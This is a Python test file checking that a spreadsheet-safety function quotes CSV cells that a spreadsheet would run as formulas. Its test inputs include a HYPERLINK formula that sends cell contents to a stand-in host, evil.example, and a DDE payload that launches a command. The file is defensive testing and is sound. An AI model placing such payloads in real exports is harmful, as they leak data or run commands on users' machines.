"""Cells a spreadsheet would run as formulas are neutralised in every CSV export people open."""

from __future__ import annotations

import pytest

from llmops.core.spreadsheets import spreadsheet_safe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1)',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
    ],
)
def test_formula_text_becomes_quoted_text(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["alice", "用户-1", "", "1.5", 0, -1.5, None, 3])
def test_plain_text_and_numbers_are_left_alone(value: object) -> None:
    assert spreadsheet_safe(value) == value
